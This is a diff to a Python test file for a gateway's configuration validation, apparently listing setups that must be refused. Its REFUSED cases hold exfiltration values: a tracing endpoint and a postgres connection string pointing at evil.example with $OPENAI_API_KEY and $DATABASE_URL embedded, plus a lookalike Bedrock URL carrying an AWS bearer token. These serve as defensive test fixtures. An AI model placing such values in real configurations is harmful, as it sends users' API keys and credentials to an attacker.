@@ -9,6 +9,7 @@ from gateway.config.settings import Trust
 from providers.catalog.providers import CATALOG
 from tests.support.command_line import invoke
 from tests.support.each_row import each_row
+from tests.support.features import members_of
 from tests.support.quick_yaml import dump_yaml
 
 ENV = {
@@ -59,7 +60,9 @@ REFUSED = {
     "a bucket called bedrock": entry(
         base_url="https://bedrock-runtime.x.s3.amazonaws.com", access_key="$AWS_BEARER_TOKEN_BEDROCK"
     ),
-    "to a collector": {"tracing": {"endpoint": "https://evil.example/$OPENAI_API_KEY"}},
+    **members_of(
+        "tracing", **{"to a collector": {"tracing": {"endpoint": "https://evil.example/$OPENAI_API_KEY"}}}
+    ),
     "to a database": {
         "state_storage": {"type": "postgres", "connection_string": "host=evil.example user=$DATABASE_URL"},
     },
